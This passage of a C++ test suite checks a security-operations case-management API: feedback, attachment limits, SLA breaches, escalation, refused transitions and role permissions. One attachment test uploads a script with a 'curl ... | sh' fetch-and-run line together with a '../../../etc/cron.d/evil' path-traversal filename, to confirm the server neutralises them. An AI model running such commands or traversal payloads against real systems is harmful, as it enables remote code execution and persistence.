      200, s.Post("/api/v1/cases/" + ref + "/feedback",
                  R"({"rating":5,"comment":"Clear root cause, fast containment."})", soc.mia)));
  CHECK(Text(Member(fb, "feedback"), "rating") == "5");
  CHECK(Text(Member(fb, "feedback"), "comment") == "Clear root cause, fast containment.");
  ExpectRefused(soc, ref, "a rating of 6", 422, [&] {
    return s.Post("/api/v1/cases/" + ref + "/feedback", R"({"rating":6})", soc.mia);
  });

  auto kinds = Kinds(Timeline(soc, ref));
  CHECK(std::count(kinds.begin(), kinds.end(), "attachment_added") == 2);
  REQUIRE(kinds.size() >= 3);
  CHECK(std::vector<std::string>(kinds.end() - 3, kinds.end()) ==
        std::vector<std::string>{"resolved", "closed", "feedback"});
  for (const char* action :
       {"case.attachment_add", "case.resolve", "case.close", "case.feedback"}) {
    INFO(action);
    CHECK(s.QueryInt(fmt::format("SELECT COUNT(*) FROM audit_log WHERE action = '{}'", action)) >=
          1);
  }
}

TEST_CASE(
    "Cases: an attachment over the limit answers 413, and a client path never reaches the disk",
    "[cases]") {
  Soc soc([](Config& c) { c.attachment_body_bytes = 1024; });
  TestServer& s = soc.s;
  std::string ref = soc.Create(soc.ana, R"({"title":"Evidence limits"})");
  ExpectRefused(soc, ref, "2 KiB over a 1 KiB limit", 413, [&] {
    return s.client().Request("POST", "/api/v1/cases/" + ref + "/attachments",
                              std::string(2048, 'x'),
                              {{"Content-Type", "application/octet-stream"},
                               {"Content-Disposition", "attachment; filename=\"big.bin\""},
                               {"Authorization", "Bearer " + soc.ana}});
  });
  ExpectRefused(soc, ref, "an empty attachment", 422, [&] {
    return s.client().Request("POST", "/api/v1/cases/" + ref + "/attachments", "",
                              {{"Content-Type", "application/octet-stream"},
                               {"Content-Disposition", "attachment; filename=\"empty.bin\""},
                               {"Authorization", "Bearer " + soc.ana}});
  });
  const std::filesystem::path dir = std::filesystem::path(s.dir()) / "attachments";
  CHECK_FALSE(std::filesystem::exists(dir));  // refused before anything touched the disk

  const std::string data = "#!/bin/sh\ncurl http://203.0.113.9/x | sh\n";
  auto r = s.client().Request(
      "POST", "/api/v1/cases/" + ref + "/attachments", data,
      {{"Content-Type", "text/x-shellscript"},
       {"Content-Disposition", "attachment; filename=\"../../../etc/cron.d/evil\""},
       {"Authorization", "Bearer " + soc.ana}});
  auto att = ParseJson(soc.Ok(201, r));
  CHECK(Text(att, "filename") == "evil");
  std::string sha = crypto::Sha256Hex(data);
  CHECK(std::filesystem::is_regular_file(dir / sha.substr(0, 2) / sha));
  CHECK_FALSE(std::filesystem::exists(std::filesystem::path(s.dir()) / "etc"));
  CHECK_FALSE(std::filesystem::exists(dir / "etc"));
  auto down = s.Get("/api/v1/attachments/" + sha, soc.ana);
  CHECK(down.body == data);
  CHECK(down.Header("content-type") == "application/octet-stream");  // never rendered
}

// ===========================================================================
// Story 4: a high case nobody acknowledges breaches its SLA. Delivery of the
// notification over HTTP is tested at the end of the file.

TEST_CASE(
    "Cases: an unacknowledged high case breaches its SLA: timeline, audit, notification, filter",
    "[cases]") {
  Soc soc([](Config& c) { c.sla_check_interval_ms = 0; });  // the test runs the check itself
  TestServer& s = soc.s;
  const int64_t t0 = kTestEpochMs;
  std::string alert = soc.Ingest(kBeaconingAlert);
  auto created = ParseJson(soc.Promote(alert, soc.ana));
  const std::string ref = Text(created, "number");
  CHECK(Text(Member(created, "sla"), "ack_due") == At(t0 + 30 * kMinute));
  CHECK(Text(Member(created, "sla"), "remaining_ms") == std::to_string(30 * kMinute));

  // At the due time it is not yet breached.
  s.clock().Advance(30 * kMinute);
  auto early = s.app().RunSlaCheck();
  REQUIRE(early.ok());
  CHECK(early->ack_breaches == 0);
  CHECK(Text(Member(ParseJson(soc.Case(ref)), "sla"), "ack_breached") == "false");

  s.clock().Advance(1 * kMinute);
  auto check = s.app().RunSlaCheck();
  REQUIRE(check.ok());
  CHECK(check->ack_breaches == 1);
  CHECK(check->resolve_breaches == 0);
  CHECK(check->auto_escalations == 0);

  // The case shows it.
  auto c = ParseJson(soc.Case(ref));
  const auto& sla = Member(c, "sla");
  CHECK(Text(sla, "ack_breached") == "true");
  CHECK(Text(sla, "resolve_breached") == "false");
  CHECK(Text(sla, "remaining_ms") == std::to_string(-1 * kMinute));
  CHECK(Text(c, "status") == "open");
  CHECK(Text(c, "tier") == "L1");

  // A timeline event by the SLA timer.
  auto events = Timeline(soc, ref);
  REQUIRE_FALSE(events.empty());
  CHECK(events.back().kind == "sla_breach");
  CHECK(events.back().actor == "system:sla");
  CHECK(events.back().time == At(t0 + 31 * kMinute));
  CHECK(Has(events.back().body, "acknowledge"));

  // An audit record.
  CHECK(
      s.QueryInt(fmt::format("SELECT COUNT(*) FROM audit_log WHERE action = 'case.sla_breach' AND "
                             "object_type = 'case' AND object_id = '{}' AND actor = 'system:sla'",
                             Text(c, "id"))) == 1);
  auto audit = soc.Ok(200, s.Get("/api/v1/audit?action=case.sla_breach", soc.mia));
  CHECK(JsonField(audit, "actor") == "system:sla");

  // A notification in the outbox, in the same transaction.
  CHECK(s.QueryInt("SELECT COUNT(*) FROM outbox WHERE event = 'case.sla_breached' AND "
                   "payload LIKE '%\"event\":\"case.sla_breached\"%' AND "
                   "payload LIKE '%\"case\":\"SOC-2026-001\"%' AND payload LIKE "
                   "'%\"severity\":\"high\"%' AND "
                   "payload LIKE '%acknowledge%' AND delivered_at IS NULL") == 1);

  // The manager's view: breached cases.
  std::string other = soc.Create(soc.ana, R"({"title":"Not breached","severity":"low"})");
  CHECK(CaseNumbers(soc.Ok(200, s.Get("/api/v1/cases?sla_breached=true", soc.mia))) ==
        std::vector<std::string>{ref});
  CHECK(CaseNumbers(soc.Ok(200, s.Get("/api/v1/cases?sla_breached=false", soc.mia))) ==
        std::vector<std::string>{other});

  // Later checks do not breach it again.
  s.clock().Advance(10 * kMinute);
  auto again = s.app().RunSlaCheck();
  REQUIRE(again.ok());
  CHECK(again->ack_breaches == 0);
  CHECK(s.QueryInt("SELECT COUNT(*) FROM case_events WHERE kind = 'sla_breach'") == 1);
  CHECK(s.QueryInt("SELECT COUNT(*) FROM outbox WHERE event = 'case.sla_breached'") == 1);

  // Acknowledging late does not clear the flag.
  soc.Ok(200, s.Patch("/api/v1/cases/" + ref, R"({"status":"in_progress"})", soc.ana));
  CHECK(Text(Member(ParseJson(soc.Case(ref)), "sla"), "ack_breached") == "true");
}

TEST_CASE("Cases: time spent in awaiting_info does not count against the SLA", "[cases]") {
  Soc soc([](Config& c) { c.sla_check_interval_ms = 0; });
  TestServer& s = soc.s;
  const int64_t t0 = kTestEpochMs;
  std::string ref = soc.Create(
      soc.ana, R"({"title":"Unusual OAuth consent for app MailSync","severity":"medium"})");
  auto c = ParseJson(soc.Case(ref));
  CHECK(Text(Member(c, "sla"), "ack_due") == At(t0 + 4 * kHour));
  CHECK(Text(Member(c, "sla"), "resolve_due") == At(t0 + 72 * kHour));

  s.clock().Advance(10 * kMinute);
  soc.Ok(200, s.Patch("/api/v1/cases/" + ref, R"({"status":"in_progress"})", soc.ana));
  s.clock().Advance(10 * kMinute);
  auto paused = ParseJson(
      soc.Ok(200, s.Patch("/api/v1/cases/" + ref, R"({"status":"awaiting_info"})", soc.ana)));
  CHECK(Text(paused, "status") == "awaiting_info");
  CHECK(Text(Member(paused, "sla"), "paused") == "true");
  const std::string frozen = std::to_string(72 * kHour - 20 * kMinute);
  CHECK(Text(Member(paused, "sla"), "remaining_ms") == frozen);

  // Two hours waiting for the user: the clock does not run.
  s.clock().Advance(1 * kHour);
  CHECK(Text(Member(ParseJson(soc.Case(ref)), "sla"), "remaining_ms") == frozen);
  s.clock().Advance(1 * kHour);
  CHECK(Text(Member(ParseJson(soc.Case(ref)), "sla"), "remaining_ms") == frozen);
  auto check = s.app().RunSlaCheck();
  REQUIRE(check.ok());
  CHECK(check->ack_breaches + check->resolve_breaches == 0);

  auto resumed = ParseJson(
      soc.Ok(200, s.Patch("/api/v1/cases/" + ref, R"({"status":"in_progress"})", soc.ana)));
  const auto& sla = Member(resumed, "sla");
  CHECK(Text(sla, "paused") == "false");
  CHECK(Text(sla, "resolve_due") == At(t0 + 72 * kHour + 2 * kHour));  // moved by the 2 h paused
  CHECK(Text(sla, "ack_due") == At(t0 + 4 * kHour));  // already met at 09:10: nothing to move
  CHECK(Text(sla, "remaining_ms") == frozen);
  CHECK(Text(resumed, "acknowledged_at") == At(t0 + 10 * kMinute));  // the first in_progress

  // Just before the moved due time: no breach; just after: breached.
  s.clock().Set(t0 + 74 * kHour);
  // Sessions would have expired by now: log in again.
  auto again =
      s.client().Request("POST", "/api/v1/auth/login",
                         fmt::format(R"({{"login":"mia","password":"{}"}})", kTestPassword),
                         {{"Content-Type", "application/json"}});
  REQUIRE(again.status == 200);
  soc.mia = JsonField(again.body, "token");
  auto before_due = s.app().RunSlaCheck();
  REQUIRE(before_due.ok());
  CHECK(before_due->resolve_breaches == 0);
  s.clock().Advance(1);
  auto after_due = s.app().RunSlaCheck();
  REQUIRE(after_due.ok());
  CHECK(after_due->resolve_breaches == 1);
  CHECK(Text(Member(ParseJson(soc.Case(ref)), "sla"), "resolve_breached") == "true");
}

TEST_CASE("Cases: a policy with auto_escalate escalates a breached case to L2", "[cases]") {
  Soc soc([](Config& c) { c.sla_check_interval_ms = 0; });
  TestServer& s = soc.s;
  auto put = ParseJson(soc.Ok(
      200,
      s.Put(
          "/api/v1/sla-policies",
          R"({"policies":[{"severity":"high","ack_minutes":30,"resolve_minutes":480,"auto_escalate":true}]})",
          soc.mia)));
  REQUIRE(Member(put, "policies").Size() == 4);
  for (const auto& p : Member(put, "policies").GetArray()) {
    INFO(Text(p, "severity"));
    CHECK(Text(p, "auto_escalate") == (Text(p, "severity") == "high" ? "true" : "false"));
  }
  CHECK(Has(soc.Ok(200, s.Get("/api/v1/sla-policies", soc.ana)),
            R"("severity":"high","ack_minutes":30,"resolve_minutes":480,"auto_escalate":true)"));

  std::string high = soc.Create(
      soc.ana, R"({"title":"Possible exfiltration from db-3","severity":"high","assignee":"ana"})");
  std::string medium =
      soc.Create(soc.ana, R"({"title":"Odd DNS volume from wks-17","severity":"medium"})");
  s.clock().Advance(31 * kMinute);
  auto r = s.app().RunSlaCheck();
  REQUIRE(r.ok());
  CHECK(r->ack_breaches == 1);
  CHECK(r->auto_escalations == 1);

  auto c = ParseJson(soc.Case(high));
  CHECK(Text(c, "tier") == "L2");
  CHECK(Text(c, "status") == "escalated");
  CHECK(Text(c, "assignee") == "null");
  CHECK(Text(Member(c, "sla"), "ack_breached") == "true");
  auto events = Timeline(soc, high);
  REQUIRE(events.size() >= 2);
  CHECK(events[events.size() - 2].kind == "sla_breach");
  CHECK(events.back().kind == "escalated");
  CHECK(events.back().actor == "system:sla");
  CHECK(Has(events.back().body, "L1 → L2"));
  CHECK(s.QueryInt("SELECT COUNT(*) FROM audit_log WHERE action = 'case.escalate' AND actor = "
                   "'system:sla'") == 1);
  CHECK(s.QueryInt("SELECT COUNT(*) FROM outbox WHERE event = 'case.sla_breached'") == 1);
  CHECK(s.QueryInt(
            "SELECT COUNT(*) FROM outbox WHERE event = 'case.escalated' AND "
            "payload LIKE '%\"case\":\"SOC-2026-001\"%' AND payload LIKE '%\"tier\":\"L2\"%'") ==
        1);

  // The L1 owner is out; L2 picks it up.
  ExpectRefused(soc, high, "L1 on the auto-escalated case", 403, [&] {
    return s.Post("/api/v1/cases/" + high + "/comments", R"({"body":"mine?"})", soc.ana);
  });
  CHECK(Text(ParseJson(soc.Ok(200, s.Post("/api/v1/cases/" + high + "/assign",
                                          R"({"assignee":"lee"})", soc.lee))),
             "status") == "in_progress");

  // Medium has no auto-escalation: breached at 4 h, stays with L1.
  s.clock().Advance(4 * kHour);
  auto r2 = s.app().RunSlaCheck();
  REQUIRE(r2.ok());
  CHECK(r2->ack_breaches == 1);
  CHECK(r2->auto_escalations == 0);
  auto m = ParseJson(soc.Case(medium));
  CHECK(Text(m, "tier") == "L1");
  CHECK(Text(m, "status") == "open");
  CHECK(Text(Member(m, "sla"), "ack_breached") == "true");
}

TEST_CASE(
    "Cases: an automatic escalation that raises severity applies that severity's SLA, as a manual "
    "one does",
    "[cases]") {
  // SPEC 7: targets are per severity. A manual escalation to L2 raises a
  // medium case to high and recomputes its due times from creation; the SLA
  // timer's escalation raises the severity the same way.
  Soc soc([](Config& c) { c.sla_check_interval_ms = 0; });
  TestServer& s = soc.s;
  const int64_t t0 = kTestEpochMs;
  soc.Ok(
      200,
      s.Put(
          "/api/v1/sla-policies",
          R"({"policies":[{"severity":"medium","ack_minutes":240,"resolve_minutes":4320,"auto_escalate":true}]})",
          soc.mia));
  std::string manual = soc.Create(soc.ana, R"({"title":"Escalated by hand","severity":"medium"})");
  std::string automatic =
      soc.Create(soc.ana, R"({"title":"Escalated by the timer","severity":"medium"})");
  s.clock().Advance(4 * kHour + kMinute);
  auto by_hand = ParseJson(soc.Ok(200, s.Post("/api/v1/cases/" + manual + "/escalate",
                                              R"({"tier":"L2","reason":"needs L2"})", soc.ana)));
  CHECK(Text(by_hand, "severity") == "high");
  CHECK(Text(Member(by_hand, "sla"), "resolve_due") == At(t0 + 8 * kHour));
  auto r = s.app().RunSlaCheck();
  REQUIRE(r.ok());
  CHECK(r->auto_escalations == 1);
  auto c = ParseJson(soc.Case(automatic));
  CHECK(Text(c, "tier") == "L2");
  CHECK(Text(c, "severity") == "high");
  CHECK(Text(Member(c, "sla"), "resolve_due") == At(t0 + 8 * kHour));
}

// ===========================================================================
// Refused transitions: 409 (or 422 for rule breaks) and nothing written.

TEST_CASE("Cases: every refused transition answers 409 naming the allowed ones and changes nothing",
          "[cases]") {
  Soc soc;
  TestServer& s = soc.s;
  std::string open = soc.Create(soc.ana, R"({"title":"Open case"})");
  auto post = [&](const std::string& ref, const std::string& action, const std::string& body,
                  const std::string& token) {
    return [&s, ref, action, body, token] {
      return s.Post("/api/v1/cases/" + ref + "/" + action, body, token);
    };
  };
  auto patch = [&](const std::string& ref, const std::string& body, const std::string& token) {
    return [&s, ref, body, token] { return s.Patch("/api/v1/cases/" + ref, body, token); };
  };
  const std::string resolve =
      R"({"resolution":"false_positive","resolution_notes":"benign admin script"})";

  ExpectRefused(soc, open, "close an open case", 409, post(open, "close", "", soc.ana),
                {"open", "closed", "in_progress", "escalated"});
  ExpectRefused(soc, open, "resolve an open case", 409, post(open, "resolve", resolve, soc.ana),
                {"open", "resolved", "in_progress", "escalated"});
  ExpectRefused(soc, open, "open to awaiting_info", 409,
                patch(open, R"({"status":"awaiting_info"})", soc.ana),
                {"awaiting_info", "in_progress", "escalated"});
  ExpectRefused(soc, open, "PATCH status resolved", 422,
                patch(open, R"({"status":"resolved"})", soc.ana), {"/resolve"});
  ExpectRefused(soc, open, "PATCH status closed", 422,
                patch(open, R"({"status":"closed"})", soc.ana), {"/close"});
  ExpectRefused(soc, open, "PATCH status escalated", 422,
                patch(open, R"({"status":"escalated"})", soc.ana), {"/escalate"});
  ExpectRefused(soc, open, "escalate to the same tier", 422,
                post(open, "escalate", R"({"tier":"L1","reason":"same"})", soc.ana), {"L1"});
  ExpectRefused(soc, open, "escalate to an unknown tier", 422,
                post(open, "escalate", R"({"tier":"L4","reason":"x"})", soc.ana));
  ExpectRefused(soc, open, "escalate without a reason", 422,
                post(open, "escalate", R"({"tier":"L2"})", soc.ana), {"reason"});
  ExpectRefused(soc, open, "feedback on an open case", 409,
                post(open, "feedback", R"({"rating":4})", soc.mia), {"closed"});
  ExpectRefused(soc, open, "reopen without a reason", 422, post(open, "reopen", "{}", soc.ana),
                {"reason"});

  soc.Ok(200, s.Patch("/api/v1/cases/" + open, R"({"status":"in_progress"})", soc.ana));
  ExpectRefused(soc, open, "close an in_progress case", 409, post(open, "close", "", soc.ana),
                {"in_progress", "awaiting_info", "escalated", "resolved"});
  ExpectRefused(soc, open, "resolve with an unknown resolution", 422,
                post(open, "resolve", R"({"resolution":"fixed","resolution_notes":"x"})", soc.ana),
                {"true_positive"});

  // An escalated case waits for the higher tier: escalating again is a conflict.
  soc.Ok(200, s.Post("/api/v1/cases/" + open + "/escalate", R"({"tier":"L2","reason":"needs L2"})",
                     soc.ana));
  ExpectRefused(soc, open, "escalate an escalated case", 409,
                post(open, "escalate", R"({"tier":"L3","reason":"again"})", soc.lee),
                {"escalated", "in_progress"});
  ExpectRefused(soc, open, "resolve an escalated case", 409,
                post(open, "resolve", resolve, soc.lee), {"escalated", "in_progress"});
  ExpectRefused(soc, open, "escalated to awaiting_info", 409,
                patch(open, R"({"status":"awaiting_info"})", soc.lee), {"in_progress"});

  // A closed case.
  std::string closed = soc.Create(soc.ana, R"({"title":"Closed case"})");
  soc.Ok(200, s.Patch("/api/v1/cases/" + closed, R"({"status":"in_progress"})", soc.ana));
  soc.Ok(200, s.Post("/api/v1/cases/" + closed + "/resolve", resolve, soc.ana));
  ExpectRefused(soc, closed, "resolve a resolved case", 409,
                post(closed, "resolve", resolve, soc.ana), {"closed", "in_progress"});
  soc.Ok(200, s.Post("/api/v1/cases/" + closed + "/close", "", soc.ana));
  ExpectRefused(soc, closed, "close a closed case", 409, post(closed, "close", "", soc.ana),
                {"in_progress"});
  ExpectRefused(soc, closed, "resolve a closed case", 409,
                post(closed, "resolve", resolve, soc.ana), {"in_progress"});
  ExpectRefused(soc, closed, "escalate a closed case", 409,
                post(closed, "escalate", R"({"tier":"L2","reason":"late"})", soc.ana),
                {"in_progress"});
  ExpectRefused(soc, closed, "PATCH a closed case to in_progress", 409,
                patch(closed, R"({"status":"in_progress"})", soc.ana), {"/reopen"});

  // Alerts: promoted twice, merged into a closed case.
  std::string a1 = soc.Ingest(SimpleAlert(1));
  std::string promoted = JsonField(soc.Promote(a1, soc.ana), "number");
  ExpectRefused(soc, promoted, "promote an alert twice", 409,
                [&] { return s.Post("/api/v1/alerts/" + a1 + "/promote", "{}", soc.ana); },
                {"already imported"});
  ExpectRefused(soc, promoted, "merge an imported alert", 409, [&] {
    return s.Post("/api/v1/alerts/" + a1 + "/merge", R"({"case":")" + open + R"("})", soc.lee);
  });
  std::string a2 = soc.Ingest(SimpleAlert(2));
  ExpectRefused(soc, closed, "merge into a closed case", 409,
                [&] {
                  return s.Post("/api/v1/alerts/" + a2 + "/merge",
                                R"({"case":")" + closed + R"("})", soc.ana);
                },
                {closed, "closed"});
  ExpectRefused(soc, "", "merge into an unknown case", 422, [&] {
    return s.Post("/api/v1/alerts/" + a2 + "/merge", R"({"case":"SOC-2026-999"})", soc.ana);
  });

  // Reopen (with a reason) is the way back.
  auto reopened =
      ParseJson(soc.Ok(200, s.Post("/api/v1/cases/" + closed + "/reopen",
                                   R"({"reason":"the same beacon came back"})", soc.ana)));
  CHECK(Text(reopened, "status") == "in_progress");
  CHECK(Text(reopened, "closed_at") == "null");
  CHECK(Text(reopened, "resolved_at") == "null");
  CHECK(Has(Timeline(soc, closed).back().body, "the same beacon came back"));
}

TEST_CASE("Cases: reopening a case that is not resolved or closed names the allowed transitions",
          "[cases]") {
  // Issue 4: every refused transition answers 409 with the allowed ones in the
  // problem detail, /reopen (which has its own check) included.
  Soc soc;
  TestServer& s = soc.s;
  std::string ref = soc.Create(soc.ana, R"({"title":"Working case"})");
  ExpectRefused(
      soc, ref, "reopen an open case", 409,
      [&] { return s.Post("/api/v1/cases/" + ref + "/reopen", R"({"reason":"x"})", soc.ana); },
      {"in_progress", "escalated"});
  soc.Ok(200, s.Patch("/api/v1/cases/" + ref, R"({"status":"in_progress"})", soc.ana));
  ExpectRefused(
      soc, ref, "reopen an in_progress case", 409,
      [&] { return s.Post("/api/v1/cases/" + ref + "/reopen", R"({"reason":"x"})", soc.ana); },
      {"awaiting_info", "escalated", "resolved"});
}

// ===========================================================================
// Roles (SPEC 6): 403 and nothing written.

TEST_CASE(
    "Cases: role denials answer 403 and write nothing; a manager assigns anyone and edits policies",
    "[cases]") {
  Soc soc;
  TestServer& s = soc.s;
  soc.LoadTemplate("phishing");
  std::string alert = soc.Ingest(kPhishingAlert);
  std::string l2 = JsonField(soc.Promote(alert, soc.ana, R"({"template":"phishing"})"), "number");
  std::vector<std::string> l2_tasks = TaskIds(soc, l2);
  soc.Ok(200, s.Post("/api/v1/cases/" + l2 + "/escalate", R"({"tier":"L2","reason":"malicious"})",
                     soc.ana));
  std::string l1 = soc.Create(soc.ana, R"({"title":"L1 case","severity":"low"})");
  std::string spare = soc.Ingest(SimpleAlert(7));
  const std::string resolve = R"({"resolution":"false_positive","resolution_notes":"n/a"})";

  // An L1 analyst on an L2 case.
  ExpectRefused(
      soc, l2, "L1 comments on an L2 case", 403,
      [&] { return s.Post("/api/v1/cases/" + l2 + "/comments", R"({"body":"x"})", soc.ana); },
      {"L2"});
  ExpectRefused(soc, l2, "L1 adds a task to an L2 case", 403, [&] {
    return s.Post("/api/v1/cases/" + l2 + "/tasks", R"({"title":"x"})", soc.ana);
  });
  ExpectRefused(soc, l2, "L1 updates a task of an L2 case", 403, [&] {
    return s.Patch("/api/v1/tasks/" + l2_tasks[0], R"({"status":"completed"})", soc.ana);
  });
  ExpectRefused(soc, l2, "L1 logs on a task of an L2 case", 403, [&] {
    return s.Post("/api/v1/tasks/" + l2_tasks[0] + "/logs", R"({"body":"x"})", soc.ana);
  });
  ExpectRefused(soc, l2, "L1 resolves an L2 case", 403,
                [&] { return s.Post("/api/v1/cases/" + l2 + "/resolve", resolve, soc.ana); });
  ExpectRefused(soc, l2, "L1 adds an observable to an L2 case", 403, [&] {
    return s.Post("/api/v1/cases/" + l2 + "/observables", R"({"type":"ip","value":"192.0.2.1"})",
                  soc.ana);
  });
  ExpectRefused(soc, l2, "L1 attaches evidence to an L2 case", 403, [&] {
    return s.client().Request("POST", "/api/v1/cases/" + l2 + "/attachments", "evidence",
                              {{"Content-Type", "application/octet-stream"},
                               {"Content-Disposition", "attachment; filename=\"e.txt\""},
                               {"Authorization", "Bearer " + soc.ana}});
  });
  ExpectRefused(soc, l2, "L1 merges an alert into an L2 case", 403, [&] {
    return s.Post("/api/v1/alerts/" + spare + "/merge", R"({"case":")" + l2 + R"("})", soc.ana);
  });
  CHECK_FALSE(std::filesystem::exists(std::filesystem::path(s.dir()) / "attachments"));

  // An auditor reads everything and changes nothing.
  CHECK(soc.Ok(200, s.Get("/api/v1/cases", soc.aud)).size() > 0);
  soc.Ok(200, s.Get("/api/v1/cases/" + l1 + "/timeline", soc.aud));
  ExpectRefused(soc, l1, "an auditor comments", 403, [&] {
    return s.Post("/api/v1/cases/" + l1 + "/comments", R"({"body":"x"})", soc.aud);
  });
  ExpectRefused(soc, l1, "an auditor promotes", 403,
                [&] { return s.Post("/api/v1/alerts/" + spare + "/promote", "{}", soc.aud); });
  ExpectRefused(soc, l1, "an auditor opens a case", 403,
                [&] { return s.Post("/api/v1/cases", R"({"title":"x"})", soc.aud); });
  ExpectRefused(soc, l1, "an auditor escalates", 403, [&] {
    return s.Post("/api/v1/cases/" + l1 + "/escalate", R"({"tier":"L2","reason":"x"})", soc.aud);
  });
  ExpectRefused(soc, l1, "an auditor edits", 403,
                [&] { return s.Patch("/api/v1/cases/" + l1, R"({"severity":"high"})", soc.aud); });

  // Admins administer; they do not work cases.
  soc.Ok(200, s.Patch("/api/v1/cases/" + l1, R"({"status":"in_progress"})", soc.ana));
  ExpectRefused(soc, l1, "an admin resolves a case", 403, [&] {
    return s.Post("/api/v1/cases/" + l1 + "/resolve", resolve, s.admin_token());
  });
  ExpectRefused(soc, l1, "an admin comments", 403, [&] {
    return s.Post("/api/v1/cases/" + l1 + "/comments", R"({"body":"x"})", s.admin_token());
  });
  ExpectRefused(soc, l1, "an admin promotes", 403, [&] {
    return s.Post("/api/v1/alerts/" + spare + "/promote", "{}", s.admin_token());
  });

  // L3 does not escalate (there is no tier above; SPEC 6).
  ExpectRefused(soc, l1, "an L3 escalates", 403, [&] {
    return s.Post("/api/v1/cases/" + l1 + "/escalate", R"({"tier":"L2","reason":"x"})", soc.max);
  });

  // Only managers (and admins) assign others and edit policies and templates.
  ExpectRefused(soc, l1, "L1 assigns to someone else", 403, [&] {
    return s.Post("/api/v1/cases/" + l1 + "/assign", R"({"assignee":"bob"})", soc.ana);
  });
  ExpectRefused(soc, l1, "L1 unassigns", 403, [&] {
    return s.Post("/api/v1/cases/" + l1 + "/assign", R"({"assignee":null})", soc.ana);
  });
  ExpectRefused(soc, l1, "L1 opens a case for someone else", 403, [&] {
    return s.Post("/api/v1/cases", R"({"title":"x","assignee":"bob"})", soc.ana);
  });
  ExpectRefused(soc, l1, "L1 promotes for someone else", 403, [&] {
    return s.Post("/api/v1/alerts/" + spare + "/promote", R"({"assignee":"bob"})", soc.ana);
  });
  ExpectRefused(soc, l1, "L1 edits SLA policies", 403, [&] {
    return s.Put("/api/v1/sla-policies",
                 R"({"policies":[{"severity":"low","ack_minutes":1,"resolve_minutes":2}]})",
                 soc.ana);
  });
  ExpectRefused(soc, l1, "L1 creates a template", 403, [&] {
    return s.Post("/api/v1/case-templates", SampleTemplate("malware-on-host"), soc.ana);
  });
  ExpectRefused(soc, l1, "L2 updates a template", 403, [&] {
    return s.Put("/api/v1/case-templates/1", R"({"name":"renamed"})", soc.lee);
  });
  ExpectRefused(soc, l1, "L3 deletes a template", 403,
                [&] { return s.Delete("/api/v1/case-templates/1", soc.max); });

  // The manager assigns anyone, within what they may work.
  auto to_bob = ParseJson(
      soc.Ok(200, s.Post("/api/v1/cases/" + l1 + "/assign", R"({"assignee":"bob"})", soc.mia)));
  CHECK(Text(to_bob, "assignee") == "bob");
  ExpectRefused(
      soc, l2, "manager assigns an L2 case to an L1 analyst", 422,
      [&] { return s.Post("/api/v1/cases/" + l2 + "/assign", R"({"assignee":"bob"})", soc.mia); },
      {"bob"});
  auto to_lee = ParseJson(
      soc.Ok(200, s.Post("/api/v1/cases/" + l2 + "/assign", R"({"assignee":"lee"})", soc.mia)));
  CHECK(Text(to_lee, "assignee") == "lee");
  CHECK(Text(to_lee, "status") == "in_progress");
  auto unassigned = ParseJson(
      soc.Ok(200, s.Post("/api/v1/cases/" + l1 + "/assign", R"({"assignee":null})", soc.mia)));
  CHECK(Text(unassigned, "assignee") == "null");
  CHECK(s.QueryInt("SELECT COUNT(*) FROM outbox WHERE event = 'case.assigned'") == 2);
  soc.Ok(200, s.Put("/api/v1/sla-policies",
                    R"({"policies":[{"severity":"low","ack_minutes":600,"resolve_minutes":6000}]})",
                    soc.mia));
  CHECK(s.QueryInt("SELECT ack_minutes FROM sla_policies WHERE severity = 1") == 600);
  CHECK(s.QueryInt("SELECT COUNT(*) FROM audit_log WHERE action = 'sla_policy.update' AND actor = "
                   "'user:mia'") == 1);
  // An admin may edit policies too (SPEC 6), but not work the case.
  soc.Ok(200,
         s.Put("/api/v1/sla-policies",
               R"({"policies":[{"severity":"low","ack_minutes":1440,"resolve_minutes":10080}]})",
               s.admin_token()));
  ExpectRefused(soc, l1, "a policy with ack longer than resolve", 422, [&] {
    return s.Put("/api/v1/sla-policies",
                 R"({"policies":[{"severity":"low","ack_minutes":100,"resolve_minutes":10}]})",
                 soc.mia);
  });
  // A user assigns themselves when they may work the tier.
  auto self = ParseJson(
      soc.Ok(200, s.Post("/api/v1/cases/" + l1 + "/assign", R"({"assignee":"bob"})", soc.bob)));
  CHECK(Text(self, "assignee") == "bob");
}

TEST_CASE("Cases: an ingest API key is refused on every case endpoint", "[cases]") {
  Soc soc;
  TestServer& s = soc.s;
  soc.LoadTemplate("phishing");
  std::string a1 = soc.Ingest(kPhishingAlert);
  std::string ref = JsonField(soc.Promote(a1, soc.ana, R"({"template":"phishing"})"), "number");
  REQUIRE(ref == "SOC-2026-001");
  std::string task = TaskIds(soc, ref).front();
  auto att = s.client().Request("POST", "/api/v1/cases/" + ref + "/attachments", "evidence",
                                {{"Content-Type", "application/octet-stream"},
                                 {"Content-Disposition", "attachment; filename=\"e.txt\""},
                                 {"Authorization", "Bearer " + soc.ana}});
  std::string sha = JsonField(soc.Ok(201, att), "sha256");
  std::string a2 = soc.Ingest(SimpleAlert(2));

  struct Call {
    std::string method, target, body;
  };
  const std::vector<Call> calls = {
      {"GET", "/api/v1/cases", ""},
      {"POST", "/api/v1/cases", R"({"title":"x"})"},
      {"GET", "/api/v1/cases/1", ""},
      {"GET", "/api/v1/cases/SOC-2026-001", ""},
      {"PATCH", "/api/v1/cases/1", R"({"title":"y"})"},
      {"POST", "/api/v1/cases/1/assign", R"({"assignee":"ana"})"},
      {"POST", "/api/v1/cases/1/escalate", R"({"tier":"L2","reason":"r"})"},
      {"POST", "/api/v1/cases/1/resolve",
       R"({"resolution":"false_positive","resolution_notes":"n"})"},
      {"POST", "/api/v1/cases/1/close", ""},
      {"POST", "/api/v1/cases/1/reopen", R"({"reason":"r"})"},
      {"POST", "/api/v1/cases/1/feedback", R"({"rating":3})"},
      {"GET", "/api/v1/cases/1/comments", ""},
      {"POST", "/api/v1/cases/1/comments", R"({"body":"hi"})"},
      {"GET", "/api/v1/cases/1/timeline", ""},
      {"GET", "/api/v1/cases/1/tasks", ""},
      {"POST", "/api/v1/cases/1/tasks", R"({"title":"t"})"},
      {"PATCH", "/api/v1/tasks/" + task, R"({"status":"completed"})"},
      {"POST", "/api/v1/tasks/" + task + "/logs", R"({"body":"b"})"},
      {"GET", "/api/v1/cases/1/observables", ""},
      {"POST", "/api/v1/cases/1/observables", R"({"type":"ip","value":"192.0.2.1"})"},
      {"GET", "/api/v1/cases/1/attachments", ""},
      {"POST", "/api/v1/cases/1/attachments", "more evidence"},
      {"GET", "/api/v1/attachments/" + sha, ""},
      {"GET", "/api/v1/sla-policies", ""},
      {"PUT", "/api/v1/sla-policies",
